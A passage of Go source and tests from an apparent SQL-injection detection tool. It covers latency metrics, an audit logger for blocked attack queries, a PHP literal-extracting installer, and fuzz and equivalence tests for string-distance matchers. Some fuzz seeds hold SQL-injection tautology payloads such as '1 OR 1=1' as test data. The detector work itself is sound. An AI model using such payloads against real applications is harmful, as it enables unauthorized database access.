		t.Fatalf("stages = %+v, want lex, pti_cover, nti_match, nti_prefilter, profile", s.Stages)
	}
	byName := map[string]StageLatency{}
	for _, st := range s.Stages {
		byName[st.Stage] = st
	}
	if byName["lex"].Count != 2 || byName["pti_cover"].Count != 1 || byName["nti_match"].Count != 1 || byName["nti_prefilter"].Count != 1 || byName["profile"].Count != 1 {
		t.Errorf("stage counts = %+v", byName)
	}
	if byName["lex"].P50Ns == 0 || byName["lex"].SumNs != int64(3*time.Microsecond) {
		t.Errorf("lex stage = %+v", byName["lex"])
	}
	if len(byName["pti_cover"].Buckets) == 0 {
		t.Error("stage snapshot must carry buckets for exporters")
	}

	// One formatting path: Format renders the same stage histograms the
	// JSON snapshot carries, so local and remote output cannot drift.
	out := s.Format()
	for _, want := range []string{"stage lex", "stage pti_cover", "stage nti_match"} {
		if !strings.Contains(out, want) {
			t.Errorf("Format missing %q:\n%s", want, out)
		}
	}
	data, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{`"stages"`, `"latencyBuckets"`, `"pti_cover"`} {
		if !strings.Contains(string(data), key) {
			t.Errorf("JSON missing %s", key)
		}
	}
}

func TestObserveStageDurationsSkipsZero(t *testing.T) {
	c := NewCollector()
	c.ObserveStageDurations(0, 0, 0, 0, 0)
	if got := c.Snapshot().Stages; len(got) != 0 {
		t.Fatalf("zero durations must not be observed, got %+v", got)
	}
}
