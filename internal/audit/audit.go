// Package audit writes the JSON-lines attack log shared by the
// in-process Guard and the remote-deployment HybridClient: one line per
// blocked query, capturing what an operator needs to triage the event
// without replaying it.
package audit

import (
	"encoding/json"
	"io"
	"sync"
	"time"

	"joza/internal/core"
	"joza/internal/nti"
)

// Record is one JSON line written to the audit log when a query is
// blocked.
type Record struct {
	// Time is the detection time in RFC 3339 with millisecond precision.
	Time string `json:"time"`
	// Query is the blocked statement.
	Query string `json:"query"`
	// DetectedBy lists the analyzers that fired ("NTI", "PTI").
	DetectedBy []string `json:"detectedBy"`
	// Reasons are human-readable explanations (token + why).
	Reasons []string `json:"reasons"`
	// Policy is the recovery policy applied.
	Policy string `json:"policy"`
	// InputKeys names the request inputs present at detection time
	// ("source:name"); values are deliberately not logged — they may
	// contain user PII beyond the attack payload.
	InputKeys []string `json:"inputKeys,omitempty"`
}

// Logger serializes writes of audit records to a writer.
type Logger struct {
	mu  sync.Mutex
	w   io.Writer
	now func() time.Time
}

// NewLogger returns a Logger writing one JSON line per record to w.
// Writes are serialized; w need not be safe for concurrent use.
func NewLogger(w io.Writer) *Logger {
	return &Logger{w: w, now: time.Now}
}

// Log writes one record; failures are swallowed (auditing must never take
// the application down), but the write is attempted exactly once.
func (l *Logger) Log(v core.Verdict, policy core.Policy, inputs []nti.Input) {
	rec := Record{
		Time:       l.now().UTC().Format("2006-01-02T15:04:05.000Z07:00"),
		Query:      v.Query,
		DetectedBy: v.DetectedBy(),
		Policy:     policy.String(),
		// Marshal absent slices as [] rather than null so JSON-lines
		// consumers can always index into arrays.
		Reasons: []string{},
	}
	if rec.DetectedBy == nil {
		rec.DetectedBy = []string{}
	}
	for _, r := range v.Reasons() {
		rec.Reasons = append(rec.Reasons, r.String())
	}
	for _, in := range inputs {
		rec.InputKeys = append(rec.InputKeys, in.Key())
	}
	data, err := json.Marshal(rec)
	if err != nil {
		return
	}
	data = append(data, '\n')
	l.mu.Lock()
	defer l.mu.Unlock()
	_, _ = l.w.Write(data)
}
