// Package audit writes the JSON-lines attack log shared by the
// in-process Guard and the remote-deployment HybridClient: one line per
// blocked query, capturing what an operator needs to triage the event
// without replaying it.
package audit

import (
	"encoding/json"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"joza/internal/core"
	"joza/internal/nti"
)

// Record is one JSON line written to the audit log when a query is
// blocked.
type Record struct {
	// Time is the detection time in RFC 3339 with millisecond precision.
	Time string `json:"time"`
	// Query is the blocked statement.
	Query string `json:"query"`
	// DetectedBy lists the analyzers that fired ("NTI", "PTI").
	DetectedBy []string `json:"detectedBy"`
	// Reasons are human-readable explanations (token + why).
	Reasons []string `json:"reasons"`
	// Policy is the recovery policy applied.
	Policy string `json:"policy"`
	// InputKeys names the request inputs present at detection time
	// ("source:name"); values are deliberately not logged — they may
	// contain user PII beyond the attack payload.
	InputKeys []string `json:"inputKeys,omitempty"`
}

// Logger writes audit records to a writer. The policy is log-only-attacks:
// Log returns before building (or allocating) anything when the verdict is
// clean, so a Logger on the hot path costs one branch per benign check.
//
// A Logger from NewLogger writes synchronously under a mutex. A Logger
// from NewAsyncLogger hands pre-marshaled records to a background writer
// through a bounded queue: a slow or wedged sink never stalls a check —
// records that cannot be queued are dropped and counted instead.
type Logger struct {
	mu  sync.Mutex
	w   io.Writer
	now func() time.Time

	// Async mode (nil queue = synchronous).
	queue    chan []byte
	done     chan struct{}
	finished chan struct{}
	closed   atomic.Bool
	once     sync.Once
	dropped  atomic.Uint64
}

// NewLogger returns a Logger writing one JSON line per record to w.
// Writes are serialized; w need not be safe for concurrent use.
func NewLogger(w io.Writer) *Logger {
	return &Logger{w: w, now: time.Now}
}

// DefaultQueueDepth is the async queue capacity used when NewAsyncLogger
// is given a non-positive depth.
const DefaultQueueDepth = 1024

// NewAsyncLogger returns a Logger whose sink writes happen on a
// background goroutine behind a bounded queue of the given depth
// (DefaultQueueDepth when depth <= 0). Log never blocks: when the queue
// is full — a wedged or slow sink — the record is dropped and counted in
// Dropped. Close stops intake, flushes the queue and waits for the
// writer; call it on shutdown so buffered records reach the sink.
func NewAsyncLogger(w io.Writer, depth int) *Logger {
	if depth <= 0 {
		depth = DefaultQueueDepth
	}
	l := &Logger{
		w:        w,
		now:      time.Now,
		queue:    make(chan []byte, depth),
		done:     make(chan struct{}),
		finished: make(chan struct{}),
	}
	go l.run()
	return l
}

// run is the async writer loop: it drains the queue until Close, then
// flushes whatever is still buffered.
func (l *Logger) run() {
	defer close(l.finished)
	for {
		select {
		case data := <-l.queue:
			l.write(data)
		case <-l.done:
			for {
				select {
				case data := <-l.queue:
					l.write(data)
				default:
					return
				}
			}
		}
	}
}

func (l *Logger) write(data []byte) {
	l.mu.Lock()
	defer l.mu.Unlock()
	_, _ = l.w.Write(data)
}

// Log writes one record for an attack verdict; clean verdicts return
// immediately without building a record. Synchronous loggers attempt the
// write exactly once and swallow failures (auditing must never take the
// application down); async loggers enqueue without blocking and count
// records the full queue forced them to drop.
func (l *Logger) Log(v core.Verdict, policy core.Policy, inputs []nti.Input) {
	if !v.Attack {
		return
	}
	rec := Record{
		Time:       l.now().UTC().Format("2006-01-02T15:04:05.000Z07:00"),
		Query:      v.Query,
		DetectedBy: v.DetectedBy(),
		Policy:     policy.String(),
		// Marshal absent slices as [] rather than null so JSON-lines
		// consumers can always index into arrays.
		Reasons: []string{},
	}
	if rec.DetectedBy == nil {
		rec.DetectedBy = []string{}
	}
	for _, r := range v.Reasons() {
		rec.Reasons = append(rec.Reasons, r.String())
	}
	for _, in := range inputs {
		rec.InputKeys = append(rec.InputKeys, in.Key())
	}
	data, err := json.Marshal(rec)
	if err != nil {
		return
	}
	data = append(data, '\n')
	if l.queue == nil {
		l.write(data)
		return
	}
	if l.closed.Load() {
		l.dropped.Add(1)
		return
	}
	select {
	case l.queue <- data:
	default:
		l.dropped.Add(1)
	}
}

// Dropped returns how many records the async queue discarded because the
// sink could not keep up. Always zero for synchronous loggers.
func (l *Logger) Dropped() uint64 { return l.dropped.Load() }

// Close stops async intake, flushes buffered records to the sink and
// waits for the background writer to finish. Records logged after Close
// are dropped (and counted). On a synchronous Logger it is a no-op. Safe
// to call more than once.
func (l *Logger) Close() error {
	if l.queue == nil {
		return nil
	}
	l.once.Do(func() {
		l.closed.Store(true)
		close(l.done)
	})
	<-l.finished
	return nil
}
