package audit

import (
	"bytes"
	"encoding/json"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"joza/internal/core"
	"joza/internal/nti"
)

// TestEmptySlicesMarshalAsArrays pins the wire shape for the degenerate
// record: even with no analyzer details at all, detectedBy and reasons
// must encode as [] — never null — so JSON-lines consumers can index into
// them unconditionally.
func TestEmptySlicesMarshalAsArrays(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf)
	l.Log(core.Verdict{Query: "SELECT 1", Attack: true}, core.PolicyTerminate, nil)
	line := strings.TrimSpace(buf.String())
	var raw map[string]json.RawMessage
	if err := json.Unmarshal([]byte(line), &raw); err != nil {
		t.Fatalf("audit line not JSON: %v (%s)", err, line)
	}
	for _, field := range []string{"detectedBy", "reasons"} {
		v, ok := raw[field]
		if !ok {
			t.Fatalf("field %q missing: %s", field, line)
		}
		if got := strings.TrimSpace(string(v)); got != "[]" {
			t.Errorf("field %q = %s, want []", field, got)
		}
	}
}

// TestCleanVerdictShortCircuits pins the log-only-attacks contract: a
// clean verdict writes nothing and allocates nothing observable.
func TestCleanVerdictShortCircuits(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf)
	l.Log(core.Verdict{Query: "SELECT 1"}, core.PolicyTerminate,
		[]nti.Input{{Source: "get", Name: "id", Value: "1"}})
	if buf.Len() != 0 {
		t.Fatalf("clean verdict produced audit output: %q", buf.String())
	}
	if n := testing.AllocsPerRun(100, func() {
		l.Log(core.Verdict{Query: "SELECT 1"}, core.PolicyTerminate, nil)
	}); n != 0 {
		t.Fatalf("clean verdict allocates %v times per Log", n)
	}
}

func TestAsyncLoggerFlushOnClose(t *testing.T) {
	var buf bytes.Buffer
	l := NewAsyncLogger(&buf, 64)
	for i := 0; i < 10; i++ {
		l.Log(core.Verdict{Query: "SELECT 1", Attack: true}, core.PolicyTerminate, nil)
	}
	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 10 {
		t.Fatalf("flushed %d lines, want 10", len(lines))
	}
	if l.Dropped() != 0 {
		t.Fatalf("Dropped = %d, want 0", l.Dropped())
	}
	// Logging after Close drops and counts rather than blocking or writing.
	l.Log(core.Verdict{Query: "SELECT 1", Attack: true}, core.PolicyTerminate, nil)
	if l.Dropped() != 1 {
		t.Fatalf("post-Close Dropped = %d, want 1", l.Dropped())
	}
	if err := l.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
}

// blockingWriter wedges on the first Write until released.
type blockingWriter struct {
	release chan struct{}
}

func (w *blockingWriter) Write(p []byte) (int, error) {
	<-w.release
	return len(p), nil
}

func TestAsyncLoggerWedgedSinkDropsInsteadOfBlocking(t *testing.T) {
	w := &blockingWriter{release: make(chan struct{})}
	l := NewAsyncLogger(w, 2)
	done := make(chan struct{})
	go func() {
		defer close(done)
		// Queue depth 2 plus one record stuck in the writer; everything
		// beyond that must drop without stalling this goroutine.
		for i := 0; i < 20; i++ {
			l.Log(core.Verdict{Query: "SELECT 1", Attack: true}, core.PolicyTerminate, nil)
		}
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Log blocked on a wedged sink")
	}
	if l.Dropped() == 0 {
		t.Fatal("wedged sink dropped nothing — queue cannot have absorbed 20 records")
	}
	close(w.release)
	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
}

func TestAsyncLoggerConcurrent(t *testing.T) {
	l := NewAsyncLogger(io.Discard, 8)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				l.Log(core.Verdict{Query: "SELECT 1", Attack: true}, core.PolicyTerminate, nil)
			}
		}()
	}
	wg.Wait()
	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
}
