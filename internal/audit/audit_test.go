package audit

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"joza/internal/core"
)

// TestEmptySlicesMarshalAsArrays pins the wire shape for the degenerate
// record: even with no analyzer details at all, detectedBy and reasons
// must encode as [] — never null — so JSON-lines consumers can index into
// them unconditionally.
func TestEmptySlicesMarshalAsArrays(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf)
	l.Log(core.Verdict{Query: "SELECT 1"}, core.PolicyTerminate, nil)
	line := strings.TrimSpace(buf.String())
	var raw map[string]json.RawMessage
	if err := json.Unmarshal([]byte(line), &raw); err != nil {
		t.Fatalf("audit line not JSON: %v (%s)", err, line)
	}
	for _, field := range []string{"detectedBy", "reasons"} {
		v, ok := raw[field]
		if !ok {
			t.Fatalf("field %q missing: %s", field, line)
		}
		if got := strings.TrimSpace(string(v)); got != "[]" {
			t.Errorf("field %q = %s, want []", field, got)
		}
	}
}
