package installer

import (
	"os"
	"path/filepath"
	"testing"
)

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestInitialExtraction(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "index.php"), `<?php $q = 'SELECT a FROM t WHERE id=';`)
	write(t, filepath.Join(dir, "plugins", "p1.php"), `<?php $q = 'SELECT b FROM u WHERE id=';`)
	write(t, filepath.Join(dir, "readme.txt"), `'SELECT ignored'`)

	ins, err := New(dir)
	if err != nil {
		t.Fatal(err)
	}
	if ins.FileCount() != 2 {
		t.Errorf("files = %d, want 2", ins.FileCount())
	}
	set := ins.Set()
	if !set.Contains("SELECT a FROM t WHERE id=") || !set.Contains("SELECT b FROM u WHERE id=") {
		t.Errorf("fragments = %v", set.Fragments())
	}
	if set.Contains("SELECT ignored") {
		t.Error("non-.php file was extracted")
	}
}

func TestRefreshNoChange(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "a.php"), `<?php $q = 'SELECT 1';`)
	ins, err := New(dir)
	if err != nil {
		t.Fatal(err)
	}
	changed, err := ins.Refresh()
	if err != nil {
		t.Fatal(err)
	}
	if changed {
		t.Error("Refresh reported change with no modifications")
	}
}

func TestRefreshNewPlugin(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "a.php"), `<?php $q = 'SELECT 1';`)
	ins, err := New(dir)
	if err != nil {
		t.Fatal(err)
	}
	old := ins.Set()

	// Installing a new plugin must be picked up (Section IV-B).
	write(t, filepath.Join(dir, "plugins", "new.php"), `<?php $q = 'SELECT fresh FROM plugin WHERE x=';`)
	changed, err := ins.Refresh()
	if err != nil {
		t.Fatal(err)
	}
	if !changed {
		t.Fatal("new plugin not detected")
	}
	if ins.Set() == old {
		t.Error("set not rebuilt")
	}
	if !ins.Set().Contains("SELECT fresh FROM plugin WHERE x=") {
		t.Error("new plugin fragments missing")
	}
}

func TestRefreshModifiedFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "a.php")
	write(t, path, `<?php $q = 'SELECT old FROM t';`)
	ins, err := New(dir)
	if err != nil {
		t.Fatal(err)
	}
	write(t, path, `<?php $q = 'SELECT new FROM t';`)
	changed, err := ins.Refresh()
	if err != nil {
		t.Fatal(err)
	}
	if !changed {
		t.Fatal("modification not detected")
	}
	set := ins.Set()
	if set.Contains("SELECT old FROM t") || !set.Contains("SELECT new FROM t") {
		t.Errorf("fragments = %v", set.Fragments())
	}
}

func TestRefreshRemovedFile(t *testing.T) {
	dir := t.TempDir()
	keep := filepath.Join(dir, "keep.php")
	gone := filepath.Join(dir, "gone.php")
	write(t, keep, `<?php $q = 'SELECT keep FROM t';`)
	write(t, gone, `<?php $q = 'SELECT gone FROM t';`)
	ins, err := New(dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(gone); err != nil {
		t.Fatal(err)
	}
	changed, err := ins.Refresh()
	if err != nil {
		t.Fatal(err)
	}
	if !changed {
		t.Fatal("removal not detected")
	}
	if ins.Set().Contains("SELECT gone FROM t") {
		t.Error("removed file's fragments survived")
	}
	if ins.FileCount() != 1 {
		t.Errorf("files = %d", ins.FileCount())
	}
}

func TestWithExtensions(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "a.inc"), `<?php $q = 'SELECT inc FROM t';`)
	write(t, filepath.Join(dir, "b.php"), `<?php $q = 'SELECT php FROM t';`)
	ins, err := New(dir, WithExtensions(".inc"))
	if err != nil {
		t.Fatal(err)
	}
	set := ins.Set()
	if !set.Contains("SELECT inc FROM t") || set.Contains("SELECT php FROM t") {
		t.Errorf("fragments = %v", set.Fragments())
	}
}

func TestMissingRoot(t *testing.T) {
	if _, err := New(filepath.Join(t.TempDir(), "missing")); err == nil {
		t.Error("want error for missing root")
	}
}

func TestConcurrentRefresh(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "a.php"), `<?php $q = 'SELECT 1';`)
	ins, err := New(dir)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 4)
	for g := 0; g < 4; g++ {
		go func() {
			var err error
			for i := 0; i < 50; i++ {
				if _, e := ins.Refresh(); e != nil {
					err = e
					break
				}
				_ = ins.Set()
			}
			done <- err
		}()
	}
	for g := 0; g < 4; g++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}
