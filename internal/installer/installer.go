// Package installer implements Joza's installation and preprocessing
// steps (Sections IV-A and IV-B): it recursively parses all source files
// reachable from the application's top-level directory, extracts their
// string literals into the trusted fragment set, and — on every refresh —
// re-extracts only files that were added, removed or modified, so the
// fragment set stays complete as the application is updated or new plugins
// are installed.
package installer

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"sync"

	"joza/internal/fragments"
	"joza/internal/phpsrc"
	"joza/internal/sqltoken"
)

// fileRecord caches one source file's extraction result.
type fileRecord struct {
	// digest fingerprints the file contents; a changed digest triggers
	// re-extraction. Contents (not mtime) are hashed so editors that
	// preserve timestamps cannot leave the set stale.
	digest   string
	literals []string
}

// Installer maintains the trusted fragment set for one application
// directory. Safe for concurrent use.
type Installer struct {
	root    string
	exts    map[string]bool
	dialect sqltoken.Dialect

	mu    sync.Mutex
	files map[string]fileRecord
	set   *fragments.Set
}

// Option configures an Installer.
type Option func(*Installer)

// WithExtensions sets the accepted source extensions (default ".php").
func WithExtensions(exts ...string) Option {
	return func(ins *Installer) {
		ins.exts = make(map[string]bool, len(exts))
		for _, e := range exts {
			ins.exts[e] = true
		}
	}
}

// WithDialect builds the fragment set under SQL dialect d (default
// MySQL). The retention filter — keep a literal iff it lexes to at least
// one SQL token — is dialect-sensitive at the margins, so the installer
// for a dialect-d guard or daemon should extract under d too.
func WithDialect(d sqltoken.Dialect) Option {
	return func(ins *Installer) { ins.dialect = d }
}

// New creates an Installer for root and performs the initial full
// extraction.
func New(root string, opts ...Option) (*Installer, error) {
	ins := &Installer{
		root:  root,
		exts:  map[string]bool{".php": true},
		files: make(map[string]fileRecord),
	}
	for _, o := range opts {
		o(ins)
	}
	if _, err := ins.Refresh(); err != nil {
		return nil, err
	}
	return ins, nil
}

// Set returns the current fragment set. The returned set is immutable;
// after a Refresh that reports a change, call Set again for the new one.
func (ins *Installer) Set() *fragments.Set {
	ins.mu.Lock()
	defer ins.mu.Unlock()
	return ins.set
}

// FileCount returns the number of tracked source files.
func (ins *Installer) FileCount() int {
	ins.mu.Lock()
	defer ins.mu.Unlock()
	return len(ins.files)
}

// Refresh rescans the directory, re-extracting only new or modified files
// and dropping removed ones. It reports whether the fragment set changed.
// This is what the preprocessing component runs when it detects new or
// modified files (e.g. an application update or a newly installed plugin).
func (ins *Installer) Refresh() (changed bool, err error) {
	paths, err := ins.scan()
	if err != nil {
		return false, err
	}
	ins.mu.Lock()
	defer ins.mu.Unlock()

	seen := make(map[string]bool, len(paths))
	for _, p := range paths {
		seen[p] = true
		data, err := os.ReadFile(p)
		if err != nil {
			return false, fmt.Errorf("read %s: %w", p, err)
		}
		sum := sha256.Sum256(data)
		digest := hex.EncodeToString(sum[:])
		if rec, ok := ins.files[p]; ok && rec.digest == digest {
			continue // unchanged: keep the cached extraction
		}
		ins.files[p] = fileRecord{
			digest:   digest,
			literals: phpsrc.Texts(phpsrc.Extract(p, string(data))),
		}
		changed = true
	}
	for p := range ins.files {
		if !seen[p] {
			delete(ins.files, p)
			changed = true
		}
	}
	if changed || ins.set == nil {
		ins.set = ins.rebuildLocked()
		changed = true
		if ins.set == nil { // unreachable; satisfies the contract
			return false, fmt.Errorf("installer: rebuild failed")
		}
	}
	return changed, nil
}

// rebuildLocked merges all cached literals into a fresh fragment set, in
// deterministic path order.
func (ins *Installer) rebuildLocked() *fragments.Set {
	paths := make([]string, 0, len(ins.files))
	for p := range ins.files {
		paths = append(paths, p)
	}
	sort.Strings(paths)
	var texts []string
	for _, p := range paths {
		texts = append(texts, ins.files[p].literals...)
	}
	return fragments.NewSetDialect(ins.dialect, texts)
}

// scan lists the accepted source files under root.
func (ins *Installer) scan() ([]string, error) {
	var paths []string
	err := filepath.WalkDir(ins.root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			return nil
		}
		if ins.exts[filepath.Ext(path)] {
			paths = append(paths, path)
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("walk %s: %w", ins.root, err)
	}
	sort.Strings(paths)
	return paths, nil
}
