//go:build race

package strdist

// raceEnabled reports whether the race detector is active. sync.Pool
// deliberately drops items under the race detector, so the zero-allocation
// guarantee does not hold there.
const raceEnabled = true
