package strdist

import (
	"context"
	"strings"
	"testing"
)

// FuzzMatcherEquivalence cross-checks every matcher implementation in the
// package on the same pair: the naive reference, the plain Sellers DP,
// the threshold-banded DP, and the bit-parallel engine. All four must
// agree bit-identically — distance, span tie-breaking, and (for the
// threshold engines) the decision. The naive matcher recovers the exact
// start Sellers' forward propagation tracks, so any divergence anywhere
// is a correctness bug in one of the engines.
func FuzzMatcherEquivalence(f *testing.F) {
	f.Add("admin", "SELECT * FROM users WHERE name='admin'", uint8(2))
	f.Add("1 OR 1=1", "SELECT * FROM t WHERE id=1 OR 1=1", uint8(2))
	f.Add("x", strings.Repeat("x", 200), uint8(1))
	f.Add("", "SELECT 1", uint8(3))
	f.Add(strings.Repeat("ab", 40), strings.Repeat("ba", 60), uint8(4))
	f.Fuzz(func(t *testing.T, input, query string, sel uint8) {
		const maxFuzzLen = 512
		if len(input) > maxFuzzLen || len(query) > maxFuzzLen {
			t.Skip()
		}
		threshold := []float64{0.05, 0.1, 0.2, 0.35, 0.5, 0.8}[int(sel)%6]
		ctx := context.Background()

		plain := SubstringMatch(input, query)

		// Plain Sellers vs the naive reference: bit-identical matches
		// (kept to small shapes — the reference is O(n·m³)).
		if len(input) <= 24 && len(query) <= 48 {
			naive := NaiveSubstringMatch(input, query)
			if naive != plain {
				t.Fatalf("naive=%+v plain=%+v (input=%q query=%q)", naive, plain, input, query)
			}
			if len(input) > 0 {
				if d := Levenshtein(input, query[plain.Start:plain.End]); d != plain.Distance {
					t.Fatalf("plain span %q carries distance %d, reported %d (input=%q)",
						query[plain.Start:plain.End], d, plain.Distance, input)
				}
			}
		}

		// Threshold decision and selected span: banded vs plain-derived
		// decision.
		banded, bandedFound, _, err := SubstringMatchThresholdBudgetCtx(ctx, input, query, threshold, 0)
		if err != nil {
			t.Fatalf("banded error: %v", err)
		}
		plainFound := len(input) > 0 && len(query) > 0 && plain.Ratio() < threshold
		if bandedFound != plainFound {
			t.Fatalf("threshold decision: banded=%v plain=%v (input=%q query=%q th=%v plain match=%+v)",
				bandedFound, plainFound, input, query, threshold, plain)
		}
		if bandedFound && banded != plain {
			t.Fatalf("span tie-breaking: banded=%+v plain=%+v (input=%q query=%q th=%v)",
				banded, plain, input, query, threshold)
		}

		// Bit-parallel engine vs banded: identical decisions, bit-identical
		// matches when found.
		bp, bpFound, _, err := BitParallelThresholdBudgetCtx(ctx, input, query, threshold, 0)
		if err != nil {
			t.Fatalf("bitparallel error: %v", err)
		}
		if bpFound != bandedFound {
			t.Fatalf("bitparallel decision=%v banded=%v (input=%q query=%q th=%v)",
				bpFound, bandedFound, input, query, threshold)
		}
		if bpFound && bp != banded {
			t.Fatalf("bitparallel match=%+v banded=%+v (input=%q query=%q th=%v)",
				bp, banded, input, query, threshold)
		}
	})
}
