package strdist

import (
	"context"
	"errors"
	"math/rand"
	"strings"
	"testing"
)

// randomText draws from a small alphabet so random pairs actually share
// near-matches instead of diverging immediately.
func randomText(rng *rand.Rand, n int) string {
	const alphabet = "abcdeXYZ '=-_()1%"
	var sb strings.Builder
	for i := 0; i < n; i++ {
		sb.WriteByte(alphabet[rng.Intn(len(alphabet))])
	}
	return sb.String()
}

// TestBitParallelEquivalenceRandom is the core safety net: on random
// pairs across both scan widths, the bit-parallel matcher must agree
// with the Sellers matcher on the threshold decision and, when found,
// return a bit-identical Match.
func TestBitParallelEquivalenceRandom(t *testing.T) {
	rng := rand.New(rand.NewSource(61))
	thresholds := []float64{0.1, 0.2, 0.35, 0.5}
	for trial := 0; trial < 4000; trial++ {
		n := 1 + rng.Intn(90) // crosses the 64-byte single-word boundary
		m := 1 + rng.Intn(160)
		input := randomText(rng, n)
		query := randomText(rng, m)
		if trial%3 == 0 && m > n {
			// Plant a mutated copy of the input so found=true happens often.
			pos := rng.Intn(m - n)
			mutated := []byte(input)
			for i := 0; i < rng.Intn(3); i++ {
				mutated[rng.Intn(len(mutated))] = byte('a' + rng.Intn(4))
			}
			query = query[:pos] + string(mutated) + query[pos+n:]
		}
		th := thresholds[rng.Intn(len(thresholds))]
		want, wantFound, _, err := SubstringMatchThresholdBudgetCtx(context.Background(), input, query, th, 0)
		if err != nil {
			t.Fatalf("sellers error: %v", err)
		}
		got, gotFound, _, err := BitParallelThresholdBudgetCtx(context.Background(), input, query, th, 0)
		if err != nil {
			t.Fatalf("bitparallel error: %v", err)
		}
		if gotFound != wantFound {
			t.Fatalf("trial %d: found mismatch: sellers=%v bitparallel=%v (input=%q query=%q th=%v)",
				trial, wantFound, gotFound, input, query, th)
		}
		if wantFound && got != want {
			t.Fatalf("trial %d: match mismatch: sellers=%+v bitparallel=%+v (input=%q query=%q th=%v)",
				trial, want, got, input, query, th)
		}
	}
}

// TestMyersScanMatchesLastRow drives the scan against the naive DP's
// last row on exhaustive small cases: the scan must hit exactly when
// some column's last-row value is within the cap.
func TestMyersScanMatchesLastRow(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for trial := 0; trial < 3000; trial++ {
		n := 1 + rng.Intn(12)
		m := 1 + rng.Intn(18)
		input := randomText(rng, n)
		query := randomText(rng, m)
		k := rng.Intn(n + 1)
		// Reference: Sellers DP last row via the plain matcher machinery.
		want := false
		prev := make([]int, n+1)
		cur := make([]int, n+1)
		for i := 0; i <= n; i++ {
			prev[i] = i
		}
		for j := 1; j <= m; j++ {
			cur[0] = 0
			for i := 1; i <= n; i++ {
				cost := 1
				if input[i-1] == query[j-1] {
					cost = 0
				}
				cur[i] = min3(prev[i-1]+cost, prev[i]+1, cur[i-1]+1)
			}
			if cur[n] <= k {
				want = true
			}
			prev, cur = cur, prev
		}
		got, _, err := myersScan64(context.Background(), input, query, k, 0)
		if err != nil {
			t.Fatalf("scan error: %v", err)
		}
		if got != want {
			t.Fatalf("scan64 mismatch: input=%q query=%q k=%d got=%v want=%v", input, query, k, got, want)
		}
		// The block variant must agree even when a single word would do.
		gotB, _, err := myersScanBlocks(context.Background(), input, query, k, 0)
		if err != nil {
			t.Fatalf("block scan error: %v", err)
		}
		if gotB != want {
			t.Fatalf("scanBlocks mismatch: input=%q query=%q k=%d got=%v want=%v", input, query, k, gotB, want)
		}
	}
}

// TestMyersScanBlocksLongInput checks the carry chain across block
// boundaries with inputs well past 64 bytes.
func TestMyersScanBlocksLongInput(t *testing.T) {
	rng := rand.New(rand.NewSource(19))
	for trial := 0; trial < 200; trial++ {
		n := 65 + rng.Intn(200)
		input := randomText(rng, n)
		query := randomText(rng, 40) + input + randomText(rng, 40)
		hit, _, err := myersScanBlocks(context.Background(), input, query, 0, 0)
		if err != nil {
			t.Fatal(err)
		}
		if !hit {
			t.Fatalf("exact occurrence not found at k=0 (n=%d)", n)
		}
		// A disjoint-alphabet input can't come within any sane cap.
		miss := strings.Repeat("#", n)
		hit, _, err = myersScanBlocks(context.Background(), miss, query, n/5, 0)
		if err != nil {
			t.Fatal(err)
		}
		if hit {
			t.Fatalf("disjoint input reported within distance %d", n/5)
		}
	}
}

func TestMaxQualifyingDistance(t *testing.T) {
	cases := []struct {
		n    int
		th   float64
		m    int
		want int
	}{
		{0, 0.2, 100, 0},
		{40, 0, 100, 0},
		{4, 0.2, 100, 1},   // 0.2*4/0.8 = 1.0 → conservative floor keeps 1
		{3, 0.2, 100, 0},   // 0.75 → 0: only exact matches can qualify
		{40, 0.2, 100, 10}, // 0.2*40/0.8 = 10
		{400, 0.2, 50, 10}, // query-length cap: 0.2*50 = 10
		{10, 1.5, 100, 10}, // degenerate threshold caps at n
	}
	for _, c := range cases {
		if got := MaxQualifyingDistance(c.n, c.th, c.m); got != c.want {
			t.Errorf("MaxQualifyingDistance(%d, %v, %d) = %d, want %d", c.n, c.th, c.m, got, c.want)
		}
	}
	// Soundness on random shapes: every threshold-qualifying match found
	// by the reference matcher must carry distance ≤ the bound.
	rng := rand.New(rand.NewSource(23))
	for trial := 0; trial < 2000; trial++ {
		n := 1 + rng.Intn(40)
		m := 1 + rng.Intn(80)
		th := []float64{0.1, 0.2, 0.5}[rng.Intn(3)]
		input := randomText(rng, n)
		query := randomText(rng, m)
		got, found, _ := SubstringMatchThreshold(input, query, th)
		if found && got.Distance > MaxQualifyingDistance(n, th, m) {
			t.Fatalf("qualifying match distance %d exceeds bound %d (n=%d m=%d th=%v)",
				got.Distance, MaxQualifyingDistance(n, th, m), n, m, th)
